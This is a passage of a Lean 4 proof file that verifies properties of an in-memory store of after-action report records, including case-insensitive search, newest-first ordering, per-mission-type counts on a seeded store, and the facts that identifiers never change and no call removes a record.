  have hsame : ∀ ord, Search toLower sortSlice w ord "" "" "" = GetAll sortSlice w ord := by
    intro ord
    rw [Search_eq, GetAll_eq]
    have hall : (fun aar => searchMatch toLower "" "" "" (w.heap aar)) = (fun _ => true) := by
      funext p; exact searchMatch_no_filter toLower (w.heap p)
    rw [hall, List.filter_true]
  have hp₁ : List.Perm (GetAll sortSlice w ord₁) w.store.values := by
    rw [GetAll_eq]; exact (hsort.perm _ _).trans (rangeValues_perm w.store ord₁ h₁)
  have hp₂ : List.Perm (GetAll sortSlice w ord₂) w.store.values := by
    rw [GetAll_eq]; exact (hsort.perm _ _).trans (rangeValues_perm w.store ord₂ h₂)
  refine ⟨hsame ord₁, ?_, ?_⟩
  · rw [hsame]; exact hp₁.trans hp₂.symm
  · intro hnodup
    rw [hsame]
    refine sorted_perm_unique w.heap w.store.values _ _ hnodup hp₁ hp₂ ?_ ?_
    · rw [GetAll_eq]; exact sortSlice_newestFirst sortSlice hsort w.heap _
    · rw [GetAll_eq]; exact sortSlice_newestFirst sortSlice hsort w.heap _

theorem Search_no_filter_vs_GetAll_witness :
    SortContract insertionSortLessFunc ∧
    MapRange exWorldDistinct.store ["A", "C"] ∧ MapRange exWorldDistinct.store ["C", "A"] ∧
    (exWorldDistinct.store.values.map (fun p => (exWorldDistinct.heap p).SubmittedDate)).Nodup ∧
    Search asciiToLower insertionSortLessFunc exWorldDistinct ["A", "C"] "" "" "" =
      GetAll insertionSortLessFunc exWorldDistinct ["C", "A"] :=
  ⟨insertionSort_contract, by decide, by decide, by decide,
    (Search_no_filter_vs_GetAll asciiToLower insertionSortLessFunc insertionSort_contract
      exWorldDistinct ["A", "C"] ["C", "A"] (by decide) (by decide)).2.2 (by decide)⟩

theorem Contains_empty (s : String) : Contains s "" = true := by
  simp [Contains]

theorem searchMatch_congr_lower (toLower : String → String) (htl : toLower "" = "")
    (op op' unit unit' mt : String)
    (hop : toLower op = toLower op') (hunit : toLower unit = toLower unit') (r : AAR) :
    searchMatch toLower op unit mt r = searchMatch toLower op' unit' mt r := by
  have key : ∀ (q q' field : String), toLower q = toLower q' →
      ((q = "" ∨ Contains (toLower field) (toLower q) = true) ↔
        (q' = "" ∨ Contains (toLower field) (toLower q') = true)) := by
    intro q q' field hq
    have hl : ∀ x : String, x = "" → Contains (toLower field) (toLower x) = true := by
      intro x hx; rw [hx, htl]; exact Contains_empty _
    constructor
    · intro h
      right
      rcases h with h | h
      · rw [← hq]; exact hl q h
      · rw [← hq]; exact h
    · intro h
      right
      rcases h with h | h
      · rw [hq]; exact hl q' h
      · rw [hq]; exact h
  have hiff : SearchSpec toLower op unit mt r ↔ SearchSpec toLower op' unit' mt r := by
    unfold SearchSpec
    rw [key op op' r.OperationName hop, key unit unit' r.UnitDesignation hunit]
  cases h₁ : searchMatch toLower op unit mt r <;>
    cases h₂ : searchMatch toLower op' unit' mt r <;> try rfl
  · have := (searchMatch_iff toLower op unit mt r).mpr
      (hiff.mpr ((searchMatch_iff toLower op' unit' mt r).mp h₂))
    rw [h₁] at this; cases this
  · have := (searchMatch_iff toLower op' unit' mt r).mpr
      (hiff.mp ((searchMatch_iff toLower op unit mt r).mp h₁))
    rw [h₂] at this; cases this

theorem Search_perm_filter (toLower : String → String)
    (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr) (hsort : SortContract sortSlice)
    (w : World) (ord : List String) (hord : MapRange w.store ord)
    (operationName unit missionType : String) :
    List.Perm (Search toLower sortSlice w ord operationName unit missionType)
      (w.store.values.filter
        (fun aar => searchMatch toLower operationName unit missionType (w.heap aar))) := by
  rw [Search_eq]
  exact (hsort.perm _ _).trans ((rangeValues_perm w.store ord hord).filter _)

/-- C11. `Search` does not depend on the letter case of the operation-name
and unit queries: two calls whose queries have the same lower-casing return
the same records (the same list when the map is ranged in the same order).
With ASCII lower-casing, a stored record named `Operation Enduring Shield`
is returned for the queries `shield`, `SHIELD` and `ShIeLd`. -/
theorem Search_case_insensitive (toLower : String → String) (htl : toLower "" = "")
    (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr) (hsort : SortContract sortSlice)
    (w : World) (ord₁ ord₂ : List String)
    (h₁ : MapRange w.store ord₁) (h₂ : MapRange w.store ord₂)
    (op op' unit unit' mt : String)
    (hop : toLower op = toLower op') (hunit : toLower unit = toLower unit') :
    Search toLower sortSlice w ord₁ op unit mt = Search toLower sortSlice w ord₁ op' unit' mt ∧
    List.Perm (Search toLower sortSlice w ord₁ op unit mt)
      (Search toLower sortSlice w ord₂ op' unit' mt) ∧
    (∀ p, p ∈ Search toLower sortSlice w ord₁ op unit mt ↔
      p ∈ Search toLower sortSlice w ord₂ op' unit' mt) ∧
    ∀ p ∈ w.store.values, (w.heap p).OperationName = "Operation Enduring Shield" →
      p ∈ Search asciiToLower sortSlice w ord₁ "shield" "" "" ∧
      p ∈ Search asciiToLower sortSlice w ord₁ "SHIELD" "" "" ∧
      p ∈ Search asciiToLower sortSlice w ord₁ "ShIeLd" "" "" := by
  have hfun : (fun aar => searchMatch toLower op unit mt (w.heap aar)) =
      (fun aar => searchMatch toLower op' unit' mt (w.heap aar)) := by
    funext p
    exact searchMatch_congr_lower toLower htl op op' unit unit' mt hop hunit (w.heap p)
  have hperm : List.Perm (Search toLower sortSlice w ord₁ op unit mt)
      (Search toLower sortSlice w ord₂ op' unit' mt) := by
    refine (Search_perm_filter toLower sortSlice hsort w ord₁ h₁ op unit mt).trans ?_
    rw [hfun]
    exact (Search_perm_filter toLower sortSlice hsort w ord₂ h₂ op' unit' mt).symm
  refine ⟨?_, hperm, fun p => hperm.mem_iff, ?_⟩
  · rw [Search_eq, Search_eq, hfun]
  · intro p hp hname
    have hmem : ∀ q : String,
        Contains (asciiToLower "Operation Enduring Shield") (asciiToLower q) = true →
        p ∈ Search asciiToLower sortSlice w ord₁ q "" "" := by
      intro q hq
      rw [(Search_perm_filter asciiToLower sortSlice hsort w ord₁ h₁ q "" "").mem_iff]
      refine List.mem_filter.mpr ⟨hp, ?_⟩
      rw [searchMatch_iff]
      exact ⟨Or.inr (by rw [hname]; exact hq), Or.inl rfl, Or.inl rfl⟩
    exact ⟨hmem "shield" (by decide), hmem "SHIELD" (by decide), hmem "ShIeLd" (by decide)⟩

/-- C12. The list returned by `Search`, whatever the filters, is in
non-increasing `SubmittedDate` order, the order `GetAll` produces: at
positions `i < j` the submission time at `i` is not before the one at `j`. -/
theorem Search_newest_first (toLower : String → String)
    (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr) (hsort : SortContract sortSlice)
    (w : World) (ord : List String) (operationName unit missionType : String) :
    ∀ (i j : Fin (Search toLower sortSlice w ord operationName unit missionType).length),
      i < j →
      (w.heap ((Search toLower sortSlice w ord operationName unit missionType).get
          j)).SubmittedDate ≤
        (w.heap ((Search toLower sortSlice w ord operationName unit missionType).get
          i)).SubmittedDate := by
  have hpw : List.Pairwise (fun a b => (w.heap b).SubmittedDate ≤ (w.heap a).SubmittedDate)
      (Search toLower sortSlice w ord operationName unit missionType) := by
    rw [Search_eq]
    exact sortSlice_newestFirst sortSlice hsort w.heap _
  intro i j hij
  exact List.pairwise_iff_get.mp hpw i j hij

/-! ### The seeded store -/

theorem NewMemoryStore_heap (addDays : Time → Int → Time) (h : Heap) (aar1 aar2 aar4 : Ptr)
    (now : Time) :
    (NewMemoryStore addDays h aar1 aar2 aar4 now).heap =
      ((h.set aar1 (sampleAAR1 addDays now)).set aar2 (sampleAAR2 addDays now)).set aar4
        (sampleAAR4 addDays now) := rfl

theorem NewMemoryStore_heap4 (addDays : Time → Int → Time) (h : Heap) (aar1 aar2 aar4 : Ptr)
    (now : Time) :
    (NewMemoryStore addDays h aar1 aar2 aar4 now).heap aar4 = sampleAAR4 addDays now := by
  rw [NewMemoryStore_heap]; exact Heap.set_same _ _ _

theorem NewMemoryStore_heap2 (addDays : Time → Int → Time) (h : Heap) (aar1 aar2 aar4 : Ptr)
    (now : Time) (h24 : aar2 ≠ aar4) :
    (NewMemoryStore addDays h aar1 aar2 aar4 now).heap aar2 = sampleAAR2 addDays now := by
  rw [NewMemoryStore_heap, Heap.set_other _ _ _ _ h24]; exact Heap.set_same _ _ _

theorem NewMemoryStore_heap1 (addDays : Time → Int → Time) (h : Heap) (aar1 aar2 aar4 : Ptr)
    (now : Time) (h12 : aar1 ≠ aar2) (h14 : aar1 ≠ aar4) :
    (NewMemoryStore addDays h aar1 aar2 aar4 now).heap aar1 = sampleAAR1 addDays now := by
  rw [NewMemoryStore_heap, Heap.set_other _ _ _ _ h14, Heap.set_other _ _ _ _ h12]
  exact Heap.set_same _ _ _

theorem NewMemoryStore_aars (addDays : Time → Int → Time) (h : Heap) (aar1 aar2 aar4 : Ptr)
    (now : Time) (h12 : aar1 ≠ aar2) (h14 : aar1 ≠ aar4) (h24 : aar2 ≠ aar4) :
    (NewMemoryStore addDays h aar1 aar2 aar4 now).store.aars =
      ((AList.insert "AAR-20251005-0001" aar1 (∅ : AList (fun _ : String => Ptr))).insert
        "AAR-20250920-0002" aar2).insert "AAR-20250815-0004" aar4 := by
  have e1 := NewMemoryStore_heap1 addDays h aar1 aar2 aar4 now h12 h14
  have e2 := NewMemoryStore_heap2 addDays h aar1 aar2 aar4 now h24
  have e4 := NewMemoryStore_heap4 addDays h aar1 aar2 aar4 now
  show (((AList.insert ((NewMemoryStore addDays h aar1 aar2 aar4 now).heap aar1).ID aar1
      (∅ : AList (fun _ : String => Ptr))).insert
      ((NewMemoryStore addDays h aar1 aar2 aar4 now).heap aar2).ID aar2).insert
      ((NewMemoryStore addDays h aar1 aar2 aar4 now).heap aar4).ID aar4) = _
  rw [e1, e2, e4]
  rfl

theorem NewMemoryStore_entries (addDays : Time → Int → Time) (h : Heap) (aar1 aar2 aar4 : Ptr)
    (now : Time) (h12 : aar1 ≠ aar2) (h14 : aar1 ≠ aar4) (h24 : aar2 ≠ aar4) :
    (NewMemoryStore addDays h aar1 aar2 aar4 now).store.aars.entries =
      [⟨"AAR-20250815-0004", aar4⟩, ⟨"AAR-20250920-0002", aar2⟩,
        ⟨"AAR-20251005-0001", aar1⟩] := by
  rw [NewMemoryStore_aars addDays h aar1 aar2 aar4 now h12 h14 h24]
  rfl

theorem NewMemoryStore_values (addDays : Time → Int → Time) (h : Heap) (aar1 aar2 aar4 : Ptr)
    (now : Time) (h12 : aar1 ≠ aar2) (h14 : aar1 ≠ aar4) (h24 : aar2 ≠ aar4) :
    (NewMemoryStore addDays h aar1 aar2 aar4 now).store.values = [aar4, aar2, aar1] := by
  unfold MemoryStore.values
  rw [NewMemoryStore_entries addDays h aar1 aar2 aar4 now h12 h14 h24]
  rfl

theorem NewMemoryStore_keys (addDays : Time → Int → Time) (h : Heap) (aar1 aar2 aar4 : Ptr)
    (now : Time) (h12 : aar1 ≠ aar2) (h14 : aar1 ≠ aar4) (h24 : aar2 ≠ aar4) :
    (NewMemoryStore addDays h aar1 aar2 aar4 now).store.aars.keys =
      ["AAR-20250815-0004", "AAR-20250920-0002", "AAR-20251005-0001"] := by
  unfold AList.keys
  rw [NewMemoryStore_entries addDays h aar1 aar2 aar4 now h12 h14 h24]
  rfl

/-! ### Counting -/

theorem Counts.lookup_incr (m : Counts) (k v : String) :
    (m.incr k).lookup v = if v = k then some ((m.lookup k).getD 0 + 1) else m.lookup v := by
  unfold Counts.incr
  by_cases hv : v = k
  · subst hv; rw [if_pos rfl]; exact AList.lookup_insert _
  · rw [if_neg hv]; exact AList.lookup_insert_ne hv

theorem foldl_incr_lookup (key : Ptr → String) (v : String) (l : List Ptr) (m : Counts) :
    (l.foldl (fun m aar => m.incr (key aar)) m).lookup v =
      if l.countP (fun p => key p == v) = 0 then m.lookup v
      else some ((m.lookup v).getD 0 + (l.countP (fun p => key p == v) : Nat)) := by
  induction l generalizing m with
  | nil => simp
  | cons x t ih =>
    simp only [List.foldl_cons]
    rw [ih, Counts.lookup_incr]
    by_cases hx : key x = v
    · subst hx
      have hc : List.countP (fun p => key p == key x) (x :: t) =
          List.countP (fun p => key p == key x) t + 1 := by
        rw [List.countP_cons_of_pos]; simp
      rw [hc, if_pos rfl]
      by_cases h0 : List.countP (fun p => key p == key x) t = 0
      · simp [h0]
      · simp [h0]; ring
    · have hc : List.countP (fun p => key p == v) (x :: t) =
          List.countP (fun p => key p == v) t := by
        rw [List.countP_cons_of_neg]; simpa using hx
      have hne : ¬ v = key x := fun h => hx h.symm
      rw [hc]
      simp only [hne, if_false]

theorem foldl_incr_lookup_empty (key : Ptr → String) (v : String) (l : List Ptr) :
    (l.foldl (fun m aar => m.incr (key aar)) (∅ : Counts)).lookup v =
      if l.countP (fun p => key p == v) = 0 then none
      else some ((l.countP (fun p => key p == v) : Nat) : Int) := by
  rw [foldl_incr_lookup]
  simp

theorem entries_length_eq_keys (s : MemoryStore) :
    s.aars.entries.length = s.aars.keys.length := by
  simp [AList.keys, List.keys]

theorem counts_mem_keys_iff (key : Ptr → String) (v : String) (l : List Ptr) :
    v ∈ (l.foldl (fun m aar => m.incr (key aar)) (∅ : Counts)).keys ↔ ∃ p ∈ l, key p = v := by
  have hmem : v ∈ (l.foldl (fun m aar => m.incr (key aar)) (∅ : Counts)).keys ↔
      ((l.foldl (fun m aar => m.incr (key aar)) (∅ : Counts)).lookup v).isSome = true :=
    AList.lookup_isSome.symm
  rw [hmem, foldl_incr_lookup_empty]
  by_cases h0 : l.countP (fun p => key p == v) = 0
  · rw [if_pos h0]
    have hnone := List.countP_eq_zero.mp h0
    constructor
    · intro h; cases h
    · rintro ⟨p, hp, hpv⟩
      exact absurd (by simpa using hpv) (hnone p hp)
  · rw [if_neg h0]
    have hpos : 0 < l.countP (fun p => key p == v) := Nat.pos_of_ne_zero h0
    obtain ⟨p, hp, hpv⟩ := List.countP_pos_iff.mp hpos
    exact ⟨fun _ => ⟨p, hp, by simpa using hpv⟩, fun _ => rfl⟩

/-- C13. `GetStats` returns as `total` the number of stored records, and in
each grouping maps a value to the number of stored records carrying it; a
value is a key of a grouping exactly when some stored record carries it, so
no key has count zero. On the freshly seeded store `total` is 3 and
`by_mission_type` maps `Training Exercise` to 2 and `Security Cooperation`
to 1 and has no other key: none for `Combat Operations`, `Humanitarian
Assistance` or `Other`. -/
theorem GetStats_counts (w : World) (ord₁ ord₂ : List String)
    (h₁ : MapRange w.store ord₁) (h₂ : MapRange w.store ord₂) :
    (GetStats w ord₁ ord₂).total = w.store.aars.keys.length ∧
    (∀ v, (GetStats w ord₁ ord₂).by_mission_type.lookup v =
      if w.store.values.countP (fun p => (w.heap p).MissionType == v) = 0 then none
      else some ((w.store.values.countP (fun p => (w.heap p).MissionType == v) : Nat) : Int)) ∧
    (∀ v, (GetStats w ord₁ ord₂).by_status.lookup v =
      if w.store.values.countP (fun p => (w.heap p).Status == v) = 0 then none
      else some ((w.store.values.countP (fun p => (w.heap p).Status == v) : Nat) : Int)) ∧
    (∀ v, v ∈ (GetStats w ord₁ ord₂).by_mission_type.keys ↔
      ∃ p ∈ w.store.values, (w.heap p).MissionType = v) ∧
    (∀ v, v ∈ (GetStats w ord₁ ord₂).by_status.keys ↔
      ∃ p ∈ w.store.values, (w.heap p).Status = v) ∧
    ∀ (addDays : Time → Int → Time) (h : Heap) (aar1 aar2 aar4 : Ptr) (now : Time)
      (o₁ o₂ : List String),
      aar1 ≠ aar2 → aar1 ≠ aar4 → aar2 ≠ aar4 →
      MapRange (NewMemoryStore addDays h aar1 aar2 aar4 now).store o₁ →
      MapRange (NewMemoryStore addDays h aar1 aar2 aar4 now).store o₂ →
      (GetStats (NewMemoryStore addDays h aar1 aar2 aar4 now) o₁ o₂).total = 3 ∧
      (GetStats (NewMemoryStore addDays h aar1 aar2 aar4 now) o₁ o₂).by_mission_type.lookup
        "Training Exercise" = some 2 ∧
      (GetStats (NewMemoryStore addDays h aar1 aar2 aar4 now) o₁ o₂).by_mission_type.lookup
        "Security Cooperation" = some 1 ∧
      (∀ v, v ∈ (GetStats (NewMemoryStore addDays h aar1 aar2 aar4 now) o₁
          o₂).by_mission_type.keys ↔ v = "Training Exercise" ∨ v = "Security Cooperation") ∧
      "Combat Operations" ∉
        (GetStats (NewMemoryStore addDays h aar1 aar2 aar4 now) o₁ o₂).by_mission_type.keys ∧
      "Humanitarian Assistance" ∉
        (GetStats (NewMemoryStore addDays h aar1 aar2 aar4 now) o₁ o₂).by_mission_type.keys ∧
      "Other" ∉
        (GetStats (NewMemoryStore addDays h aar1 aar2 aar4 now) o₁ o₂).by_mission_type.keys := by
  have total : ∀ (w : World) (o₁ o₂ : List String),
      (GetStats w o₁ o₂).total = w.store.aars.keys.length := by
    intro w o₁ o₂
    show ((w.store.aars.entries.length : Nat) : Int) = _
    rw [entries_length_eq_keys]
  have byMT : ∀ (w : World) (o₁ o₂ : List String), MapRange w.store o₁ → ∀ v,
      (GetStats w o₁ o₂).by_mission_type.lookup v =
      if w.store.values.countP (fun p => (w.heap p).MissionType == v) = 0 then none
      else some ((w.store.values.countP (fun p => (w.heap p).MissionType == v) : Nat) : Int) := by
    intro w o₁ o₂ ho v
    show ((rangeValues w.store o₁).foldl
      (fun m aar => m.incr (w.heap aar).MissionType) (∅ : Counts)).lookup v = _
    rw [foldl_incr_lookup_empty (fun p => (w.heap p).MissionType) v,
      (rangeValues_perm w.store o₁ ho).countP_eq]
  have keysMT : ∀ (w : World) (o₁ o₂ : List String), MapRange w.store o₁ → ∀ v,
      v ∈ (GetStats w o₁ o₂).by_mission_type.keys ↔
        ∃ p ∈ w.store.values, (w.heap p).MissionType = v := by
    intro w o₁ o₂ ho v
    show v ∈ ((rangeValues w.store o₁).foldl
      (fun m aar => m.incr (w.heap aar).MissionType) (∅ : Counts)).keys ↔ _
    rw [counts_mem_keys_iff (fun p => (w.heap p).MissionType) v]
    constructor
    · rintro ⟨p, hp, hv⟩; exact ⟨p, (rangeValues_perm w.store o₁ ho).mem_iff.mp hp, hv⟩
    · rintro ⟨p, hp, hv⟩; exact ⟨p, (rangeValues_perm w.store o₁ ho).mem_iff.mpr hp, hv⟩
  refine ⟨total w ord₁ ord₂, byMT w ord₁ ord₂ h₁, ?_, keysMT w ord₁ ord₂ h₁, ?_, ?_⟩
  · intro v
    show ((rangeValues w.store ord₂).foldl
      (fun m aar => m.incr (w.heap aar).Status) (∅ : Counts)).lookup v = _
    rw [foldl_incr_lookup_empty (fun p => (w.heap p).Status) v,
      (rangeValues_perm w.store ord₂ h₂).countP_eq]
  · intro v
    show v ∈ ((rangeValues w.store ord₂).foldl
      (fun m aar => m.incr (w.heap aar).Status) (∅ : Counts)).keys ↔ _
    rw [counts_mem_keys_iff (fun p => (w.heap p).Status) v]
    constructor
    · rintro ⟨p, hp, hv⟩; exact ⟨p, (rangeValues_perm w.store ord₂ h₂).mem_iff.mp hp, hv⟩
    · rintro ⟨p, hp, hv⟩; exact ⟨p, (rangeValues_perm w.store ord₂ h₂).mem_iff.mpr hp, hv⟩
  · intro addDays h aar1 aar2 aar4 now o₁ o₂ h12 h14 h24 ho₁ _
    have hvals := NewMemoryStore_values addDays h aar1 aar2 aar4 now h12 h14 h24
    have e1 := NewMemoryStore_heap1 addDays h aar1 aar2 aar4 now h12 h14
    have e2 := NewMemoryStore_heap2 addDays h aar1 aar2 aar4 now h24
    have e4 := NewMemoryStore_heap4 addDays h aar1 aar2 aar4 now
    have hkeys : ∀ v, v ∈ (GetStats (NewMemoryStore addDays h aar1 aar2 aar4 now) o₁
        o₂).by_mission_type.keys ↔ v = "Training Exercise" ∨ v = "Security Cooperation" := by
      intro v
      rw [keysMT _ o₁ o₂ ho₁ v, hvals]
      simp only [List.mem_cons, List.mem_singleton, List.not_mem_nil, or_false]
      constructor
      · rintro ⟨p, hp, hv⟩
        rcases hp with rfl | rfl | rfl
        · rw [e4] at hv; left; exact hv.symm
        · rw [e2] at hv; right; exact hv.symm
        · rw [e1] at hv; left; exact hv.symm
      · rintro (rfl | rfl)
        · exact ⟨aar1, Or.inr (Or.inr rfl), by rw [e1]; rfl⟩
        · exact ⟨aar2, Or.inr (Or.inl rfl), by rw [e2]; rfl⟩
    refine ⟨?_, ?_, ?_, hkeys, ?_, ?_, ?_⟩
    · rw [total, NewMemoryStore_keys addDays h aar1 aar2 aar4 now h12 h14 h24]; rfl
    · rw [byMT _ o₁ o₂ ho₁, hvals]
      simp [List.countP_cons, e1, e2, e4, sampleAAR1, sampleAAR2, sampleAAR4,
        MissionTypeTraining, MissionTypeSecurity]
    · rw [byMT _ o₁ o₂ ho₁, hvals]
      simp [List.countP_cons, e1, e2, e4, sampleAAR1, sampleAAR2, sampleAAR4,
        MissionTypeTraining, MissionTypeSecurity]
    · rw [hkeys]; decide
    · rw [hkeys]; decide
    · rw [hkeys]; decide

/-! ### Calls and reachable states -/

theorem Create_heap_ID (w : World) (aar : Ptr) (now : Time) (p : Ptr) :
    ((Create w aar now).1.heap p).ID = (w.heap p).ID := by
  by_cases hin : (w.heap aar).ID ∈ w.store.aars
  · rw [Create_present w aar now hin]
  · rw [Create_fresh w aar now hin]
    by_cases hp : p = aar
    · subst hp; simp [Heap.set_same]
    · simp [Heap.set_other _ _ _ _ hp]

theorem Update_heap_ID (w : World) (aar : Ptr) (now : Time) (p : Ptr) :
    ((Update w aar now).1.heap p).ID = (w.heap p).ID := by
  by_cases hin : (w.heap aar).ID ∈ w.store.aars
  · rw [Update_present w aar now hin]
    by_cases hp : p = aar
    · subst hp; simp [Heap.set_same]
    · simp [Heap.set_other _ _ _ _ hp]
  · rw [Update_absent w aar now hin]

theorem Create_lookup (w : World) (aar : Ptr) (now : Time) (k : String) :
    (Create w aar now).1.store.aars.lookup k =
      if (Create w aar now).2 = none ∧ k = (w.heap aar).ID then some aar
      else w.store.aars.lookup k := by
  by_cases hin : (w.heap aar).ID ∈ w.store.aars
  · rw [Create_present w aar now hin]; simp
  · rw [Create_fresh w aar now hin]
    by_cases hk : k = (w.heap aar).ID
    · subst hk; simp [AList.lookup_insert]
    · simp [hk, AList.lookup_insert_ne hk]

theorem Update_lookup (w : World) (aar : Ptr) (now : Time) (k : String) :
    (Update w aar now).1.store.aars.lookup k =
      if (Update w aar now).2 = none ∧ k = (w.heap aar).ID then some aar
      else w.store.aars.lookup k := by
  by_cases hin : (w.heap aar).ID ∈ w.store.aars
  · rw [Update_present w aar now hin]
    by_cases hk : k = (w.heap aar).ID
    · subst hk; simp [AList.lookup_insert]
    · simp [hk, AList.lookup_insert_ne hk]
  · rw [Update_absent w aar now hin]; simp

theorem Create_ok_iff (w : World) (aar : Ptr) (now : Time) :
    (Create w aar now).2 = none ↔ (w.heap aar).ID ∉ w.store.aars.keys := by
  by_cases hin : (w.heap aar).ID ∈ w.store.aars
  · rw [Create_present w aar now hin]
    constructor
    · intro h; cases h
    · intro h; exact absurd hin h
  · rw [Create_fresh w aar now hin]
    exact ⟨fun _ => hin, fun _ => rfl⟩

theorem Update_ok_iff (w : World) (aar : Ptr) (now : Time) :
    (Update w aar now).2 = none ↔ (w.heap aar).ID ∈ w.store.aars.keys := by
  by_cases hin : (w.heap aar).ID ∈ w.store.aars
  · rw [Update_present w aar now hin]
    exact ⟨fun _ => hin, fun _ => rfl⟩
  · rw [Update_absent w aar now hin]
    constructor
    · intro h; cases h
    · intro h; exact absurd h hin

theorem Call.after_heap_ID (w : World) (c : Call) (p : Ptr) :
    ((c.after w).heap p).ID = (w.heap p).ID := by
  cases c with
  | create aar now => exact Create_heap_ID w aar now p
  | update aar now => exact Update_heap_ID w aar now p
  | getByID _ => rfl
  | getAll _ => rfl
  | search _ _ _ _ => rfl
  | getStats _ _ => rfl

theorem Call.after_lookup (w : World) (c : Call) (k : String) (p : Ptr)
    (h : (c.after w).store.aars.lookup k = some p) :
    w.store.aars.lookup k = some p ∨ (w.heap p).ID = k := by
  cases c with
  | create aar now =>
    change (Create w aar now).1.store.aars.lookup k = some p at h
    rw [Create_lookup] at h
    split_ifs at h with hc
    · right; cases h; exact hc.2.symm
    · left; exact h
  | update aar now =>
    change (Update w aar now).1.store.aars.lookup k = some p at h
    rw [Update_lookup] at h
    split_ifs at h with hc
    · right; cases h; exact hc.2.symm
    · left; exact h
  | getByID _ => left; exact h
  | getAll _ => left; exact h
  | search _ _ _ _ => left; exact h
  | getStats _ _ => left; exact h

theorem Reachable.key_is_ID (addDays : Time → Int → Time) (w : World)
    (hreach : Reachable addDays w) :
    ∀ k p, w.store.aars.lookup k = some p → (w.heap p).ID = k := by
  induction hreach with
  | init h aar1 aar2 aar4 now h12 h14 h24 =>
    intro k p hk
    have hmem := AList.mem_lookup_iff.mp (Option.mem_def.mpr hk)
    rw [NewMemoryStore_entries addDays h aar1 aar2 aar4 now h12 h14 h24] at hmem
    simp only [List.mem_cons, Sigma.mk.inj_iff, heq_eq_eq, List.mem_singleton,
      List.not_mem_nil, or_false] at hmem
    rcases hmem with ⟨rfl, rfl⟩ | ⟨rfl, rfl⟩ | ⟨rfl, rfl⟩
    · rw [NewMemoryStore_heap4]; rfl
    · rw [NewMemoryStore_heap2 _ _ _ _ _ _ h24]; rfl
    · rw [NewMemoryStore_heap1 _ _ _ _ _ _ h12 h14]; rfl
  | call w c _ ih =>
    intro k p hk
    rw [Call.after_heap_ID]
    rcases Call.after_lookup w c k p hk with h | h
    · exact ih k p h
    · exact h
  | prepare w q r _ hq ih =>
    intro k p hk
    have hp : p ∈ w.store.values := (mem_values_iff w.store p).mpr ⟨k, hk⟩
    have hne : p ≠ q := fun h => hq (h ▸ hp)
    show ((w.heap.set q r) p).ID = k
    rw [Heap.set_other _ _ _ _ hne]
    exact ih k p hk

/-- C14. In every state reached from `NewMemoryStore()` by calls on the store,
each record stored under a key has that key as its `ID`; hence records stored
under different keys have different identifiers, and no call changes the
identifier of any record. -/
theorem stored_ID_is_key (addDays : Time → Int → Time) (w : World)
    (hreach : Reachable addDays w) :
    (∀ k p, w.store.aars.lookup k = some p → (w.heap p).ID = k) ∧
    (∀ k k' p p', w.store.aars.lookup k = some p → w.store.aars.lookup k' = some p' →
      k ≠ k' → (w.heap p).ID ≠ (w.heap p').ID ∧ p ≠ p') ∧
    (∀ (c : Call) (p : Ptr), ((c.after w).heap p).ID = (w.heap p).ID) ∧
    (∀ (c : Call) k p, (c.after w).store.aars.lookup k = some p →
      ((c.after w).heap p).ID = k) := by
  have hinv := Reachable.key_is_ID addDays w hreach
  refine ⟨hinv, ?_, fun c p => Call.after_heap_ID w c p, ?_⟩
  · intro k k' p p' hk hk' hne
    have hids : (w.heap p).ID ≠ (w.heap p').ID := by
      rw [hinv k p hk, hinv k' p' hk']; exact hne
    exact ⟨hids, fun h => hids (by rw [h])⟩
  · intro c k p hk
    exact Reachable.key_is_ID addDays _ (Reachable.call w c hreach) k p hk

/-- C15. No call removes a record: after any call, successful or failing,
every identifier present before is still present. A successful `Create` adds
exactly one identifier, the record's, which was absent before; a successful
`Update` leaves the set of identifiers as it was. -/
theorem no_call_removes_a_record (w : World) (c : Call) :
    (∀ id, id ∈ w.store.aars.keys → id ∈ (c.after w).store.aars.keys) ∧
    (∀ aar now, (Create w aar now).2 = none →
      (w.heap aar).ID ∉ w.store.aars.keys ∧
      (Create w aar now).1.store.aars.keys = (w.heap aar).ID :: w.store.aars.keys) ∧
    (∀ aar now, (Update w aar now).2 = none →
      List.Perm (Update w aar now).1.store.aars.keys w.store.aars.keys ∧
      ∀ id, id ∈ (Update w aar now).1.store.aars.keys ↔ id ∈ w.store.aars.keys) := by
  refine ⟨?_, ?_, ?_⟩
  · intro id hid
    cases c with
    | create aar now =>
      show id ∈ (Create w aar now).1.store.aars
      by_cases hin : (w.heap aar).ID ∈ w.store.aars
      · rw [Create_present w aar now hin]; exact hid
      · rw [Create_fresh w aar now hin]
        exact (AList.mem_insert _).mpr (Or.inr hid)
    | update aar now =>
      show id ∈ (Update w aar now).1.store.aars
      by_cases hin : (w.heap aar).ID ∈ w.store.aars
      · rw [Update_present w aar now hin]
        exact (AList.mem_insert _).mpr (Or.inr hid)
      · rw [Update_absent w aar now hin]; exact hid
    | getByID _ => exact hid
    | getAll _ => exact hid
    | search _ _ _ _ => exact hid
    | getStats _ _ => exact hid
  · intro aar now hok
    have hout := (Create_ok_iff w aar now).mp hok
    refine ⟨hout, ?_⟩
    rw [Create_fresh w aar now hout]
    show (AList.insert (w.heap aar).ID aar w.store.aars).keys = _
    rw [AList.keys_insert, List.erase_of_not_mem hout]
  · intro aar now hok
    have hin := (Update_ok_iff w aar now).mp hok
    have hperm : List.Perm (Update w aar now).1.store.aars.keys w.store.aars.keys := by
      rw [Update_present w aar now hin]
      show List.Perm (AList.insert (w.heap aar).ID aar w.store.aars).keys _
      rw [AList.keys_insert]
      exact (List.perm_cons_erase hin).symm
    exact ⟨hperm, fun id => hperm.mem_iff⟩

/-- C16. The store returned by `NewMemoryStore()` holds exactly three records,
under the identifiers `AAR-20251005-0001`, `AAR-20250920-0002` and
`AAR-20250815-0004`; each has status `Approved`, and its `CreatedAt`,
`UpdatedAt` and `SubmittedDate` all equal the seeding time moved back by 32,
47 and 83 days respectively; `GetAll` on the fresh store returns the three in
that order. -/
theorem NewMemoryStore_contents (addDays : Time → Int → Time)
    (hadd : ∀ t d d', d < d' → addDays t d < addDays t d')
    (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr) (hsort : SortContract sortSlice)
    (h : Heap) (aar1 aar2 aar4 : Ptr) (now : Time)
    (h12 : aar1 ≠ aar2) (h14 : aar1 ≠ aar4) (h24 : aar2 ≠ aar4) (ord : List String)
    (hord : MapRange (NewMemoryStore addDays h aar1 aar2 aar4 now).store ord) :
    List.Perm (NewMemoryStore addDays h aar1 aar2 aar4 now).store.aars.keys
